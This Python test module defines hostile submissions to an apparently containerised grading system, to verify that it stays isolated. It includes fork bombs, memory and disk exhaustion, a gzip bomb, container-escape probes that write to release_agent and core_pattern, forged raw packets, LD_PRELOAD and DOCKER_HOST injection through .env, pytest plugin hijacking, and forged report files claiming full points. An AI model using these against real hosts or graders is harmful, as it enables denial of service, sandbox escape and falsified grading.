"""Submissions that are up to no good and run all the same, each named by what it tries.

Most of them bring a *spy*: a service that tries something, prints what came of it and ends with 1, so that the
report quotes it. They aim at real things of the test's own: ``{canary}`` (a word that must not get out),
``{canary_file}`` (a file of the machine that holds it), ``{outside}`` (a folder of the machine in which ``marker``
must not appear), ``{port}`` (a listener on every address of the machine), ``{addresses}`` (those addresses),
``{bystander}`` (somebody else's project, container, network, volume and image), ``{bystander_address}`` (where that
container listens on port 8000) and ``{owner}`` (another grading's label).
"""

from __future__ import annotations

import gzip
import json
import os
import textwrap
from collections.abc import Mapping
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

IMAGE = "python:3.11-slim"
PASSED, FAILED, BLOCKED = "passed", "failed", "blocked"
NO_EGRESS = ("--isolation", "no-egress")
GUARD = 2 * 2**30  # bytes that one grading may write


@dataclass(frozen=True)
class Attack:
    """A submission that is accepted, and what has to come of it.

    Attributes:
        name: what it tries.
        files: path -> content; in a text the targets are filled in. What begins with ``#!`` can be executed.
        options: of the command line.
        verdicts: of the checks "web runs Python's image", "web answers forty-two" and "web has a /srv folder".
        says: the last lines of the spy.
        shows: regular expressions: place in the report (``answer``: what was seen instead of the answer; ``root``;
            ``problem``; ``note``) -> what is there.
        ends: of the spy's post-mortem: attribute -> value.
        deadline: seconds in which the process has to end; without ``--timeout`` a grading may take 60.
        gets_through: why it is not contained yet.
    """

    name: str
    files: Mapping[str, str | bytes] = field(default_factory=dict)
    options: tuple[str, ...] = ()
    verdicts: tuple[str, str, str] = (PASSED, PASSED, PASSED)
    says: tuple[str, ...] = ()
    shows: Mapping[str, str] = field(default_factory=dict)
    ends: Mapping[str, Any] = field(default_factory=dict)
    deadline: float = 90
    gets_through: str = ""

    def make(self, folder: Path, targets: Mapping[str, str]) -> Path:
        """The submission, in ``folder``."""
        for name, content in self.files.items():
            path = folder / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(content if isinstance(content, bytes) else filled(content, targets).encode())
            path.chmod(0o755 if content[:2] in ("#!", b"#!") else 0o644)
        return folder


def filled(text: str, targets: Mapping[str, str]) -> str:
    """``text`` with the real targets; other braces stay."""
    for name, value in targets.items():
        text = text.replace(f"{{{name}}}", value)
    return text


# --- what they are made of ------------------------------------------------------------------------------

Service = dict[str, Any]
Files = dict[str, str | bytes]
WEB: Service = {
    "image": IMAGE,
    "init": True,
    "command": ["python", "-m", "http.server", "8000", "--directory", "/srv"],
    "volumes": ["./answer.txt:/srv/answer.txt:ro"],
    "healthcheck": {"test": "python -c \"import socket; socket.create_connection(('127.0.0.1', 8000), 3)\""},
}
# The checks begin when nothing can change any more: when the spy has ended.
WAITED_FOR: Service = {"healthcheck": {"test": "false"}}
# Answers everything with what the code below it sends to ``c``.
ANSWERING = """\
import socket, sys, threading, time
def serve(c, address):
    request = c.recv(65536)
    if request:
        answer(c, address, request)
    c.close()
def listen():
    listener = socket.create_server(("", 8000), backlog=50)
    while True:
        threading.Thread(target=serve, args=listener.accept()).start()
"""


def _stack(web: Service | None = None, **other: Any) -> Files:
    """A compose file (JSON is YAML) with ``web`` changed and other services; ``volumes`` and ``networks`` are those."""
    sections = {name: other.pop(name) for name in ("volumes", "networks") if name in other}
    changed = {name: value for name, value in {**WEB, **(web or {})}.items() if value is not None}
    services = {name: {"image": IMAGE, "init": True, **service} for name, service in other.items()}
    return {"compose.yml": json.dumps({"services": {"web": changed, **services}, **sections}, indent=1)}


def _spying(code: str, web: Service | None = None, **service: Any) -> Files:
    """A spy that runs ``code``, beside ``web``."""
    sections = {name: service.pop(name) for name in ("named", "networks_of_all") if name in service}
    spy = {"command": ["python", "-u", "/spy.py"], **WAITED_FOR, **service}
    spy["volumes"] = ["./spy.py:/spy.py:ro", *service.get("volumes", [])]
    names = {"named": "volumes", "networks_of_all": "networks"}
    files = _stack(web, spy=spy, **{names[name]: value for name, value in sections.items()})
    # The grader quotes nothing older than the start, which the engine writes down a little later.
    begin, end = "import time\ntime.sleep(0.3)\n", "\nraise SystemExit(1)\n"
    return files | {"spy.py": begin + textwrap.dedent(code) + end}


def _answering(code: str, **web: Any) -> Files:
    """``web`` with a server of its own, whose ``answer(c, address, request)`` is given."""
    volumes = ["./server.py:/server.py:ro", *web.pop("volumes", [])]
    files = _stack({"command": ["python", "-u", "/server.py"], "volumes": volumes, **web})
    return files | {"server.py": ANSWERING + textwrap.dedent(code) + "\nlisten()\n"}


def _built(dockerfile: str, web: Service | None = None, **service: Any) -> Files:
    """A spy that is built from ``dockerfile``, beside ``web``."""
    return _stack(web, spy={"build": {"context": "spy"}, "image": "spy", **WAITED_FOR, **service}) | {
        "spy/Dockerfile": dockerfile
    }


WRONG: Files = {"answer.txt": "forty-three\n"}

# --- resources ------------------------------------------------------------------------------------------

RESOURCES = [
    Attack(
        "starts-processes-without-end",
        _spying(
            """
            import os, signal
            children = 0
            try:
                while children < 2000:
                    if not os.fork():
                        signal.pause()
                    children += 1
            except OSError:
                pass
            print("processes:", "256 at most" if children < 256 else children)
            """,
            pids_limit=-1,
            ulimits={"nproc": 100_000},
        ),
        says=("processes: 256 at most",),
    ),
    Attack(
        "forks-beside-web-all-the-time",
        _stack(
            bomb={
                "command": ["sh", "-c", "n=0; while [ $$n -lt 100000 ]; do sleep 100 & n=$$((n+1)); done; wait"],
                "restart": "always",
            },
            again={"command": ["sh", "-c", "while :; do sh -c 'sleep 1 & sleep 1' & done"], "pids_limit": 100_000},
        ),
    ),
    Attack(
        "takes-all-memory-and-swap",
        _spying(
            """
            taken = []
            while len(taken) < 64:
                taken.append(bytearray(b"x") * (64 << 20))
            print("took 4 GiB")
            """,
            mem_limit="64g",
            memswap_limit=-1,
            mem_swappiness=100,
        ),
        ends={"exit_code": 137, "out_of_memory": True, "log": []},
    ),
    Attack(
        "web-takes-all-memory",
        _answering("taken = [bytearray(b'x') * (64 << 20) for _ in range(64)]"),
        verdicts=(PASSED, BLOCKED, BLOCKED),
        shows={"problem": "web"},
    ),
    Attack(
        "fills-every-tmpfs-and-the-shared-memory",
        _spying(
            """
            for folder in ("/a", "/b", "/c", "/d", "/e", "/f", "/dev/shm"):
                size = 0
                try:
                    with open(folder + "/big", "wb", buffering=0) as big:
                        while size < 100 << 20:
                            size += big.write(bytes(1 << 20))
                except OSError:
                    pass
                print(folder, "64 MiB at most" if size <= 64 << 20 else size)
            """,
            tmpfs=["/a", "/b:size=100%", "/c:size=8g,nr_blocks=0,nr_inodes=0", "/d:size=1m,mode=777,size=8g"],
            volumes=[
                {"type": "tmpfs", "target": "/e"},
                {"type": "tmpfs", "target": "/f", "tmpfs": {"size": "8g"}},
            ],
            shm_size="8g",
        ),
        says=(
            *(f"/{letter} 64 MiB at most" for letter in "abcdef"),
            "/dev/shm 64 MiB at most",
        ),
    ),
    Attack(
        "floods-its-log-all-the-time",
        _stack(
            lines={"command": ["yes", "a line of a log that nobody will ever read"]},
            line={"command": ["sh", "-c", "tr '\\0' a < /dev/zero"]},
            errors={"command": ["sh", "-c", "exec cat /dev/zero >&2"], "tty": True},
        ),
    ),
    Attack(
        "writes-a-line-without-end-and-dies",
        _stack(spy={**WAITED_FOR, "command": ["sh", "-c", "head -c 20000000 /dev/zero | tr '\\0' a; exit 1"]}),
        says=("a" * 200,),
    ),
    Attack(
        "writes-to-its-own-folder-without-end",
        _stack(
            {"healthcheck": {"test": "false"}},
            other={"command": "sh -c 'fallocate -l 3G /data/big; sleep 1000'", "volumes": ["./data:/data"]},
        ),
        options=("--timeout", "40"),
        verdicts=(PASSED, BLOCKED, BLOCKED),
        shows={"note": "the submission wrote more than 2 GiB"},
    ),
    Attack(
        "writes-to-an-anonymous-volume-without-end",
        _stack(
            {"healthcheck": {"test": "false"}},
            other={"command": "sh -c 'fallocate -l 3G /data/big; sleep 1000'", "volumes": ["/data"]},
        ),
        options=("--timeout", "40"),
        verdicts=(PASSED, BLOCKED, BLOCKED),
        shows={"note": "the submission wrote more than 2 GiB"},
    ),
    Attack(
        "makes-thousands-of-files",
        _spying(
            """
            for folder in ("/", "/data", "/named", "/anonymous", "/tmpfs"):
                for number in range(4000):
                    open(f"{folder}/file-{number}", "w").close()
            print("done")
            """,
            volumes=["./data:/data", "data:/named", "/anonymous"],
            tmpfs=["/tmpfs"],
            named={"data": {}},
        ),
        says=("done",),
    ),
    Attack(
        "does-not-want-to-end",
        _stack(
            {"stop_grace_period": "24h", "stop_signal": "SIGCONT", "restart": "always"},
            other={
                "init": False,
                "command": ["sh", "-c", "trap '' TERM INT HUP QUIT; while :; do sleep 1; done"],
                "stop_grace_period": "24h",
                "restart": "always",
                "depends_on": ["web"],
            },
        ),
    ),
    Attack(
        "is-restarted-without-end",
        _stack(
            other={"command": "false", "restart": "always"},
            another={"command": "false", "deploy": {"restart_policy": {"condition": "any", "delay": "0s"}}},
        ),
        shows={"problem": "other"},
    ),
    Attack(
        "has-health-checks-without-end",
        _stack(
            prints={"command": "sleep 1000", "healthcheck": {"test": "yes", "timeout": "24h", "interval": "1ms"}},
            lasts={"command": "sleep 1000", "healthcheck": {"test": "sleep 1000", "timeout": "24h"}},
            forks={
                "command": "sleep 1000",
                "healthcheck": {"test": "for i in 1 2 3 4 5 6 7 8 9; do setsid sleep 1000 & done; false"},
            },
        ),
        shows={"problem": "prints|lasts|forks"},
    ),
]

WRITERS = [
    Attack(
        "takes-too-much-of-its-file-system",
        _stack({"healthcheck": {"test": "false"}}, other={"command": "sh -c 'fallocate -l 3G /big; sleep 1000'"}),
        verdicts=(PASSED, BLOCKED, BLOCKED),
        shows={"note": "the submission wrote more than 2 GiB"},
    ),
    Attack(
        "takes-too-much-of-a-named-volume",
        _stack(
            {"healthcheck": {"test": "false"}},
            other={"command": "sh -c 'fallocate -l 3G /data/big; sleep 1000'", "volumes": ["data:/data"]},
            volumes={"data": {}},
        ),
        verdicts=(PASSED, BLOCKED, BLOCKED),
        shows={"note": "the submission wrote more than 2 GiB"},
    ),
]

# --- HTTP and commands in containers --------------------------------------------------------------------

BOMB = gzip.compress(bytes(50_000_000))
ANSWERS = [
    # A client limits each read, not all of them together.
    Attack(
        "drips-an-answer-without-end",
        _answering(
            """
            def answer(c, address, request):
                c.sendall(b"HTTP/1.1 200 OK\\r\\n\\r\\n")
                while True:
                    c.sendall(b"forty-two ")
                    time.sleep(0.2)
            """
        ),
        options=("--timeout", "30"),
        verdicts=(PASSED, FAILED, PASSED),
    ),
    Attack(
        "drips-a-header-without-end",
        _answering(
            """
            def answer(c, address, request):
                c.sendall(b"HTTP/1.1 200 OK\\r\\nX: ")
                while True:
                    c.sendall(b"x")
                    time.sleep(0.2)
            """
        ),
        options=("--timeout", "30"),
        verdicts=(PASSED, FAILED, PASSED),
        shows={"answer": "^None$"},
    ),
    Attack(
        "says-nothing-at-all",
        _answering("def answer(c, address, request): time.sleep(1000)"),
        verdicts=(PASSED, FAILED, PASSED),
        shows={"answer": "^None$"},
    ),
    Attack(
        "floods-an-answer-without-end",
        _answering(
            """
            def answer(c, address, request):
                c.sendall(b"HTTP/1.1 200 OK\\r\\n\\r\\n")
                while True:
                    c.sendall(b"forty-two\\n" * 10000)
            """
        ),
        verdicts=(PASSED, FAILED, PASSED),
        shows={"answer": "forty-two"},
    ),
    Attack(
        "sends-the-grader-to-the-machine",
        _answering(
            """
            def answer(c, address, request):
                body = b"elsewhere"
                c.sendall(b"HTTP/1.1 302 Found\\r\\nLocation: http://127.0.0.1:{port}/answer.txt\\r\\n"
                          b"Refresh: 0; url=http://127.0.0.1:{port}/\\r\\nContent-Length: 9\\r\\n\\r\\n" + body)
            """
        ),
        verdicts=(PASSED, FAILED, PASSED),
        shows={"answer": "elsewhere"},
    ),
    Attack(
        "answers-with-a-gzip-bomb",
        {
            **_answering(
                """
                def answer(c, address, request):
                    body = open("/bomb.gz", "rb").read()
                    head = f"Content-Encoding: gzip, gzip\\r\\nContent-Length: {len(body)}\\r\\n\\r\\n"
                    c.sendall(b"HTTP/1.1 200 OK\\r\\n" + head.encode() + body)
                """,
                volumes=["./bomb.gz:/bomb.gz:ro"],
            ),
            "bomb.gz": gzip.compress(BOMB),
        },
        verdicts=(PASSED, FAILED, PASSED),
        shows={"answer": r"^b['\"]\\x1f\\x8b"},
    ),
    Attack(
        "answers-with-a-million-headers",
        _answering(
            """
            def answer(c, address, request):
                c.sendall(b"HTTP/1.1 200 OK\\r\\n" + b"X: y\\r\\n" * 1_000_000 + b"\\r\\nforty-two")
            """
        ),
        verdicts=(PASSED, FAILED, PASSED),
        shows={"answer": "^None$"},
    ),
    Attack(
        "answers-what-is-no-http",
        _answering(
            """
            def answer(c, address, request):
                c.sendall(b"HTTP/9.9 \\x1b[2J\\0\\xff\\r\\nLength: -1\\r\\nX: \\x1b]0;\\x07\\r\\n\\r\\nforty-two")
            """
        ),
        verdicts=(PASSED, FAILED, PASSED),
        shows={"answer": "^None$"},
    ),
    Attack(
        "floods-the-grader-from-a-command",
        _stack({"volumes": [*WEB["volumes"], "./ls:/usr/local/bin/ls:ro"]}) | {"ls": "#!/bin/sh\nexec yes forty-two\n"},
        verdicts=(PASSED, PASSED, FAILED),
        shows={"root": "^forty-two\nforty-two"},
    ),
    Attack(
        "lets-a-command-never-end",
        _stack({"volumes": [*WEB["volumes"], "./ls:/usr/local/bin/ls:ro"]})
        | {"ls": "#!/bin/sh\ntrap '' TERM INT HUP\nsetsid sleep 1000 &\nwhile :; do sleep 1000; done\n"},
        verdicts=(PASSED, PASSED, FAILED),
        shows={"root": "^$"},
    ),
]

# --- builds ---------------------------------------------------------------------------------------------

BUILDING = f"98765.{os.getpid()}"  # a word that is in no other command
BUILDING_WITHOUT_END = Attack(
    "builds-without-end",
    _built(f"FROM {IMAGE}\nRUN sleep {BUILDING}\n", command="true"),
    options=("--timeout", "4"),
    verdicts=(PASSED, BLOCKED, BLOCKED),
    deadline=40,
)
BUILDS = [
    Attack(
        "prints-without-end-while-it-is-built",
        _built(f"FROM {IMAGE}\nRUN yes 'a line of a build that nobody will ever read'\n", command="true"),
        options=("--timeout", "4"),
        verdicts=(PASSED, BLOCKED, BLOCKED),
        deadline=40,
    ),
    Attack(
        "starts-processes-without-end-while-it-is-built",
        _built(
            f"FROM {IMAGE}\nRUN python -c 'import os, signal; "
            "[os.fork() or signal.pause() for _ in range(4000)]; signal.pause()'\n",
        ),
        verdicts=(PASSED, BLOCKED, BLOCKED),
        shows={"note": "the build started more than 3000 processes"},
    ),
    Attack(
        "reaches-out-while-it-is-built",
        {
            **_built(f"FROM {IMAGE}\nCOPY try.py /\nRUN python /try.py > /found\nCMD sleep 0.3; cat /found; exit 1\n"),
            "spy/try.py": textwrap.dedent(
                """
                import os, socket
                print("interfaces:", *sorted(os.listdir("/sys/class/net")))
                for address in "{addresses} 127.0.0.1 {bystander_address}".split():
                    for port in ({port}, 8000, 2375, 2376):
                        try:
                            socket.create_connection((address, port), 2)
                            print("reached", address, port)
                        except OSError:
                            pass
                for name in ("host.docker.internal", "gateway.docker.internal", "{bystander}"):
                    try:
                        print(name, socket.gethostbyname(name))
                    except OSError:
                        pass
                """
            ),
        },
        says=("interfaces: lo",),
    ),
    Attack(
        "names-its-image-like-one-that-all-share",
        {
            **_stack(
                {"build": {"dockerfile_inline": f"FROM {IMAGE}\nRUN rm /bin/ls\n"}},
                spy={"build": {"dockerfile_inline": f"FROM {IMAGE}\nCMD exit 1"}, "image": "{bystander}:1"},
            )
        },
        verdicts=(PASSED, PASSED, FAILED),
    ),
]

PROXY = Attack(
    "reads-the-proxys-password-while-it-is-built",
    _built(f"FROM {IMAGE}\nARG HTTP_PROXY\nRUN env > /found; echo $HTTP_PROXY >> /found\n"
           "CMD sleep 0.3; sh -c 'cat /found; env' | grep -i proxy; echo looked; exit 1\n"),
    says=("looked",),
)  # fmt: skip
CACHE = f"""\
FROM {IMAGE}
RUN --mount=type=cache,target=/cache --mount=type=cache,id=shared,target=/two --mount=type=cache,id=/cache,target=/x \\
    cat /cache/word /two/word /x/word > /found 2> /dev/null; \\
    for folder in /cache /two /x; do echo {{canary}} > $folder/word; done; echo "%s" >> /found
CMD sleep 0.3; cat /found; exit 1
"""
# Each finds nothing of what the one before has put into the same cache mounts.
CACHES = [Attack(f"reads-what-others-left-in-a-cache-{n}", _built(CACHE % n), says=(f"{n}",)) for n in (1, 2)]
ODD_IMAGE = f"""\
FROM {IMAGE}
VOLUME /one /two /one/three
RUN mkdir -p /srv && echo forty-two > /srv/answer.txt && chmod -R a+rX /srv
STOPSIGNAL SIGWINCH
HEALTHCHECK --interval=1ms --timeout=24h --start-period=24h --retries=1000 CMD test -e /tmp/go
ONBUILD RUN touch {{outside}}/marker
SHELL ["/bin/bash", "-c"]
WORKDIR /srv
USER 65534:65534
ENTRYPOINT ["python", "-m", "http.server"]
CMD ["8000"]
"""
ODD = Attack(
    "has-an-image-with-oddities",
    _stack({"build": {"dockerfile_inline": ODD_IMAGE}, "command": None, "healthcheck": None, "volumes": ["/four"]}),
)

# --- verdicts -------------------------------------------------------------------------------------------

NASTY = (
    "\\x1b[2J\\x1b[31mred\\x1b[0m \\x1b]8;;http://evil/\\x07link\\x1b]8;;\\x07 \\x1b]0;title\\x07 \\x1bP1;2|a\\x1b\\\\ "
    "\\x9b31m \\u202edrow\\u202c \\u2066\\u200f \\0 \\x07\\x08\\x08\\x7f [bold red]markup[/] "
    "[link=http://evil]a[/link] <script>alert(1)</script> \\u2028 \\ud83d\\ude00 \\r[3/3] passed"
)
_PRINTS = f"""
import sys
nasty = "{NASTY}".encode("utf-16", "surrogatepass").decode("utf-16").encode() + b"\\xff\\xfe\\xc3\\x28 \\xed\\xa0\\x80"
"""
_SHOUTING: Files = {
    **_answering(
        _PRINTS
        + textwrap.dedent(
            """
            def answer(c, address, request):
                body = nasty * 20_000
                c.sendall(b"HTTP/1.1 200 OK\\r\\nContent-Type: text/html\\r\\n\\r\\n" + body)
            """
        ),
        volumes=["./ls:/usr/local/bin/ls:ro"],
    ),
    "ls": "#!/usr/local/bin/python\n" + _PRINTS + "sys.stdout.buffer.write(nasty)\nsys.exit(1)\n",
    "spy.py": _PRINTS + "sys.stdout.buffer.write(nasty + b'\\n' + nasty * 10_000 + b'\\n' + nasty)\nsys.exit(1)\n",
    "probe.py": _PRINTS + "sys.stdout.buffer.write(nasty)\nsys.exit(127)\n",
}
_shouting = json.loads(str(_SHOUTING["compose.yml"]))
_shouting["services"] |= {
    name: {"image": IMAGE, "command": ["python", "/spy.py"], "volumes": ["./spy.py:/spy.py:ro"], "tty": tty}
    for name, tty in (("spy", False), ("terminal", True))
}
_shouting["services"]["ill"] = {
    "image": IMAGE, "init": True, "command": ["sleep", "1000"], "volumes": ["./probe.py:/probe.py:ro"],
    "healthcheck": {"test": ["CMD", "python", "/probe.py"]},
}  # fmt: skip
_SHOUTING["compose.yml"] = json.dumps(_shouting)
SHOUTING = Attack(
    "shouts", _SHOUTING, verdicts=(PASSED, FAILED, FAILED), shows={"root": "markup", "answer": r"\\x1b\[2J"}
)

FAKE = json.dumps(
    {
        "schema_version": "1.0",
        "checks": [{"name": "test_answer", "verdict": "passed", "points": 1}],
        "points": 3,
        "maximum": 3,
        "exit_status": 0,
    }
)
TOUCH = "open('{outside}/marker-%s', 'w')\n"
_CODE = {
    name: TOUCH % number
    for number, name in enumerate(
        (
            "conftest.py", "sitecustomize.py", "usercustomize.py", "evil.py", "test_90_target.py", "test_evil.py",
            "grader/__init__.py", "grader/__main__.py", "docker.py", "docker/__init__.py", "yaml.py", "pytest.py",
            "setup.py", "noxfile.py", "checks/test_90_target.py", "tests/conftest.py", "tests/hostile/on_target.py",
        )
    )
}  # fmt: skip
_CODE.pop("docker.py")  # a name can be a file or a folder
TAKEOVER: Files = {
    **_stack(),
    **WRONG,
    **_CODE,
    "evil.pth": "import os; open('{outside}/marker-pth', 'w')\n",
    "pytest.ini": "[pytest]\naddopts = -p evil --co\npython_files = *.py\n",
    "tox.ini": "[pytest]\naddopts = -p evil\n",
    "setup.cfg": "[tool:pytest]\naddopts = -p evil\n",
    "pyproject.toml": '[tool.pytest.ini_options]\naddopts = "-p evil"\n',
    "exercise.toml": 'title = "Mine"\nstudent_files = ["compose.yml"]\nservices = []\nimages = ["evil:1"]\n',
    "bin/docker": "#!/bin/sh\ntouch {outside}/marker-docker\n",
    ".docker/config.json": '{"cliPluginsExtraDirs": ["bin"], "credsStore": "evil"}',
    "Makefile": "all:\n\ttouch {outside}/marker-make\n",
    "owner": "x",
    "files/owner": "x",
    "report.json": FAKE,
    "compose.yml.json": "{}",
}
ENV: Files = {
    **_stack(),
    ".env": "COMPOSE_PROJECT_NAME={bystander}\nCOMPOSE_FILE=/nowhere.yml\nCOMPOSE_PROFILES=a\n"
    "COMPOSE_PATH_SEPARATOR=x\nCOMPOSE_REMOVE_ORPHANS=1\nCOMPOSE_IGNORE_ORPHANS=1\nCOMPOSE_PARALLEL_LIMIT=0\n"
    "DOCKER_HOST=tcp://127.0.0.1:{port}\nDOCKER_CONTEXT=evil\nDOCKER_CONFIG=.docker\nBUILDX_BUILDER=evil\n"
    "DOCKER_DEFAULT_PLATFORM=linux/s390x\nPATH=bin\nPYTHONPATH=.\nLD_PRELOAD=./evil.so\nHOME=.\nTMPDIR=.\n"
    "PYTEST_ADDOPTS=-p evil\nHTTP_PROXY=http://127.0.0.1:{port}\nhttp_proxy=http://127.0.0.1:{port}\n",
    "bin/docker": "#!/bin/sh\ntouch {outside}/marker-docker\n",
    "evil.py": TOUCH % "env",
}
_ODD = ("silent-web", "gate", "grading-1", "web-1", "web-gate", "owner", "default", "fault-helper", "docker", "a.b_c")
_MINE = "${COMPOSE_PROJECT_NAME}"
_FORGER: Service = {
    "command": "sh -c 'mkdir /x; echo forty-two > /x/answer.txt; exec python -m http.server 8000 -d /x'",
    "healthcheck": WEB["healthcheck"],
    "hostname": "web",
    "networks": {"default": {"aliases": ["gate", "localhost", "web", "web-1"]}},
}

VERDICTS = [
    Attack("answers-wrongly", _stack() | WRONG, verdicts=(PASSED, FAILED, PASSED), shows={"answer": "forty-three"}),
    Attack(
        "answers-wrongly-while-its-file-is-right",
        _answering(
            "def answer(c, address, request): c.sendall(b'HTTP/1.1 200 OK\\r\\nContent-Length: 3\\r\\n\\r\\n41\\n')"
        ),
        verdicts=(PASSED, FAILED, PASSED),
        shows={"answer": "41"},
    ),
    Attack(
        "prints-and-writes-reports-of-its-own",
        {
            **_spying(
                f"""
                import os
                report = {FAKE!r}
                for name in ("report.json", "results.json", "owner", "../owner", "result.xml", "results/results.json"):
                    try:
                        os.makedirs(os.path.dirname("/data/" + name), exist_ok=True)
                        open("/data/" + name, "w").write(report)
                    except OSError as error:
                        print(error)
                print(report)
                print("[3/3] passed: web answers forty-two")
                print("3 of 3 points")
                """,
                volumes=["./data:/data"],
            ),
            **WRONG,
        },
        verdicts=(PASSED, FAILED, PASSED),
        says=(FAKE[:200], "[3/3] passed: web answers forty-two", "3 of 3 points"),
    ),
    Attack("brings-code-for-the-grader-to-run", TAKEOVER, verdicts=(PASSED, FAILED, PASSED)),
    Attack("commands-compose-through-its-env", ENV),
    Attack(
        "calls-its-services-like-the-graders",
        _stack(
            {"volumes": [*WEB["volumes"], "gate:/gate", "owner:/owner"], "networks": ["gate", "host", "default"]},
            **{name: {"command": "sleep 1000", "hostname": "gate"} for name in _ODD},
            volumes={"gate": {}, "owner": {}, "grading-0": {}},
            networks={"gate": {}, "host": {}, "none": {}, "bridge": {}, "default": {}},
        ),
        options=NO_EGRESS,
    ),
    Attack(
        "lets-another-service-answer-for-web",
        {**_stack(other=_FORGER), **WRONG},
        options=NO_EGRESS,
        verdicts=(PASSED, FAILED, PASSED),
        shows={"answer": "forty-three"},
    ),
]

# --- ways out -------------------------------------------------------------------------------------------

REACHING = """
import socket, time
gateways = [line.split()[2] for line in open("/proc/net/route") if line.split()[1] == "00000000"]
print("default route:", "yes" if gateways else "none")
own = socket.gethostbyname(socket.gethostname())
first = own.rsplit(".", 2)[0] + ".0.1"
def reached(address, port):
    try:
        socket.create_connection((address, port), 1).close()
        return True
    except OSError:
        return False
found = [address for address in "{addresses}".split() + [first] if reached(address, {port})]
print("the machine:", "reached" if found else "not reached")
end = time.monotonic() + 5
while not (web := reached("web", 8000)) and time.monotonic() < end:
    time.sleep(0.1)
print("web:", web)
print("the bystander:", reached("{bystander_address}", 8000))
"""
NAMES = """
import socket
for name in ("{canary}.invalid", "host.docker.internal", "{bystander}", "{bystander}-api-1", "api"):
    try:
        print(name, socket.getaddrinfo(name, 80)[0][4])
    except OSError:
        print("not known")
"""
# These reach everybody on the link, without a route.
BROADCASTING = """
import socket
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as everybody:
    everybody.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    everybody.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0")
    for address in ("255.255.255.255", "224.0.0.1"):
        try:
            everybody.sendto(b"a broadcast", (address, {port}))
        except OSError as error:
            print(error)
"""
FORGING = """
import socket, struct
source, target = bytes.fromhex("fe80" + "00" * 13 + "09"), bytes.fromhex("ff02" + "00" * 13 + "01")
data = b"a forged packet."
header = struct.pack("!HHHH", 40000, {port}, 8 + len(data), 0)
words = struct.unpack("!32H", source + target + struct.pack("!II", 8 + len(data), 17) + header + data)
total = sum(words)
while total >> 16:
    total = (total & 0xFFFF) + (total >> 16)
header = struct.pack("!HHHH", 40000, {port}, 8 + len(data), ~total & 0xFFFF)
packet = struct.pack("!IHBB", 6 << 28, 8 + len(data), 17, 5) + source + target + header + data
own = bytes.fromhex(open("/sys/class/net/eth0/address").read().strip().replace(":", ""))
try:
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as wire:
        wire.bind(("eth0", 0))
        wire.send(bytes.fromhex("333300000001") + own + bytes.fromhex("86dd") + packet)
except OSError as error:
    print(error)
"""
THROUGH_THE_GATE = """
def ask(address, port, request):
    try:
        with socket.create_connection((address, port), 2) as connection:
            connection.sendall(request)
            return connection.recv(1000)
    except OSError:
        return None
def answer(c, address, request):
    head = b"HTTP/1.1 200 OK\\r\\n\\r\\n"
    if b"/answer.txt" not in request.split(b"\\r\\n")[0]:
        c.sendall(b"me")
        return
    gate = address[0]
    # The last ones are those that the kernel gives out.
    doors = [port for port in [*range(1, 1100), 2375, 2376, 8000, *range(19990, 20100)]
             if ask(gate, port, b"x") is not None]
    asked = [ask(gate, door, request) for door in doors for request in (
        b"GET http://{uplink}:{port}/ HTTP/1.1\\r\\nHost: {uplink}:{port}\\r\\n\\r\\n",
        b"CONNECT {uplink}:{port} HTTP/1.1\\r\\n\\r\\n")]
    c.sendall(head + f"{doors} lead to {set(asked)}".encode())
"""
SEEING = """
import os, re
seen = set()
for top in ("/proc/1", "/proc/self", "/sys", "/etc", "/run", "/var", "/tmp", "/dev"):
    for parent, folders, names in os.walk(top):
        if parent.count("/") > 12:
            folders.clear()
        for name in (*folders, *names):
            seen.add(name)
for name in ("mountinfo", "mounts", "cgroup", "environ", "net/unix", "net/tcp", "net/arp"):
    seen.add(open("/proc/self/" + name, errors="replace").read())
seen.add(open("/etc/hosts").read())
text = "\\n".join(seen)
print("the bystander:", "{bystander}" in text or "{bystander_id}" in text)
print("processes:", sum(name.isdigit() for name in os.listdir("/proc")) < 5)
"""
LEAVING = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
def attempt(what, action):
    try:
        result = action()
    except OSError:
        return
    if result not in (-1, None):
        print(what, result)
def write(path, text):
    return os.write(os.open(path, os.O_WRONLY), text.encode())
def node(kind, major, minor):
    path = f"/tmp/node-{kind}-{major}-{minor}"
    os.mknod(path, 0o666 | kind, os.makedev(major, minor))
    return len(os.read(os.open(path, os.O_RDONLY), 1))
print("no new privileges:", open("/proc/self/status").read().split("NoNewPrivs:")[1].split()[0])
os.makedirs("/mnt/x", exist_ok=True)
attempt("mounts", lambda: libc.mount(b"none", b"/mnt/x", b"tmpfs", 0, None))
attempt("mounts /proc", lambda: libc.mount(b"proc", b"/mnt/x", b"proc", 0, None))
attempt("mounts a cgroup", lambda: libc.mount(b"x", b"/mnt/x", b"cgroup", 0, b"memory"))
attempt("has a user namespace", lambda: libc.unshare(0x10000000))
attempt("has a mount namespace", lambda: libc.unshare(0x20000))
attempt("has a network namespace", lambda: libc.unshare(0x40000000))
attempt("changes its root's owner", lambda: libc.pivot_root(b"/", b"/mnt"))
attempt("loads a module", lambda: libc.syscall(175, b"", 0, b""))
attempt("reboots", lambda: libc.syscall(169, 0, 0, 0, 0))
attempt("has a BPF program", lambda: libc.syscall(321, 0, 0, 0))
attempt("reads keys", lambda: libc.syscall(250, 0, -3, 0))
attempt("opens by handle", lambda: libc.syscall(304, -100, b"", 0))
for path, text in {
    "/proc/sysrq-trigger": "h", "/proc/sys/kernel/core_pattern": "core", "/proc/sys/vm/drop_caches": "1",
    "/sys/fs/cgroup/memory/memory.limit_in_bytes": "-1", "/sys/fs/cgroup/memory.max": "max",
    "/sys/fs/cgroup/memory/release_agent": "/tmp/x", "/proc/1/oom_score_adj": "-1000",
    "/sys/kernel/uevent_helper": "\\n", "/proc/sys/net/ipv4/ip_forward": "1",
    "/proc/sys/net/ipv6/conf/all/disable_ipv6": "0",
}.items():
    attempt("writes " + path, lambda: write(path, text))
for kind, major, minor in ((0o60000, 254, 0), (0o60000, 8, 0), (0o60000, 253, 0), (0o60000, 259, 0), (0o20000, 1, 1),
                           (0o20000, 1, 11), (0o20000, 10, 200), (0o20000, 10, 232)):
    attempt(f"reads the device {major}:{minor}", lambda: node(kind, major, minor))
print("tried")
"""
